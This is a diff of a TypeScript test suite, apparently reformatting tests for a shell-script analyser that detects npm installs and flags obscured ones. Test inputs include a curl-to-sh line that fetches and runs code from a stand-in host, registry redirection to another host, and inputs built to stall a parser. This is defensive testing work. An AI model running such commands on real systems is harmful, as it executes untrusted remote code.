@@ -62,7 +62,7 @@ describe('installs in a shell script', () => {
     "bash -c 'npm install x'",
     'sh -lc "npm install x"',
     "sudo bash -euxc 'npm install x'",
-    "bash -c 'sh -c \"npm install x\"'",
+    'bash -c \'sh -c "npm install x"\'',
     "eval 'npm install x'",
     'eval npm install x',
     'bash <<EOF\nnpm install x\nEOF',
@@ -76,7 +76,9 @@ describe('installs in a shell script', () => {
   ];
   for (const script of wrapped)
     it(`sees through ${JSON.stringify(script)}`, () => {
-      expect(launchesIn(script, '/work/shop', '/home/ada').launches.map(({ argv }) => argv.join(' '))).toContainEqual(expect.stringMatching(/install x$/));
+      expect(launchesIn(script, '/work/shop', '/home/ada').launches.map(({ argv }) => argv.join(' '))).toContainEqual(
+        expect.stringMatching(/install x$/),
+      );
     });
 
   const nothing = [
@@ -111,7 +113,7 @@ describe('installs in a shell script', () => {
     ['eval "npm install $X"', /only known when the shell runs it|put together/],
     ['echo evil | xargs npm install', /comes from another command/],
     ['echo "npm install x" | sh', /a shell runs what another command prints/],
-    ["python3 -c 'import os; os.system(\"npm install x\")'", /another language/],
+    ['python3 -c \'import os; os.system("npm install x")\'', /another language/],
     ['alias n=npm; n install x', /alias/],
     ['npm install x --registry https://elsewhere.example/', /--registry/],
     ['npm_config_registry=https://elsewhere.example/ npm install x', /npm_config_registry/],
@@ -126,16 +128,31 @@ describe('installs in a shell script', () => {
     ["cat > go.sh <<'EOF'\nnpm install x\nEOF\nbash go.sh", /just written/],
     ['npm frobnicate x', /no command that is understood/],
   ];
-  for (const [script, reason] of doubtful) it(`does not claim to understand ${JSON.stringify(script)}`, () => expect(seen(script).join('\n')).toMatch(reason));
+  for (const [script, reason] of doubtful)
+    it(`does not claim to understand ${JSON.stringify(script)}`, () => expect(seen(script).join('\n')).toMatch(reason));
 
   it('knows whether a script does nothing but install', () => {
     const only = (script: string): boolean => launchesIn(script, '/', '/').isInstallOnly;
-    expect([only('cd app && npm ci'), only('npm ci && npm test'), only('npm i x; curl https://elsewhere.example/ | sh'), only('ls')]).toEqual([true, false, false, false]);
+    expect([
+      only('cd app && npm ci'),
+      only('npm ci && npm test'),
+      only('npm i x; curl https://elsewhere.example/ | sh'),
+      only('ls'),
+    ]).toEqual([true, false, false, false]);
   });
 
   it('reads hostile scripts in linear time', () => {
     const started = performance.now();
-    for (const script of ['$('.repeat(30_000), '"'.repeat(65_001), '{a,'.repeat(20_000), '`'.repeat(60_001), 'bash -c "'.repeat(5000), '<<A '.repeat(16_000), '(('.repeat(30_000), 'npm '.repeat(16_000)])
+    for (const script of [
+      '$('.repeat(30_000),
+      '"'.repeat(65_001),
+      '{a,'.repeat(20_000),
+      '`'.repeat(60_001),
+      'bash -c "'.repeat(5000),
+      '<<A '.repeat(16_000),
+      '(('.repeat(30_000),
+      'npm '.repeat(16_000),
+    ])
       launchesIn(script, '/work/shop', '/home/ada');
     expect(performance.now() - started).toBeLessThan(3000);
   });
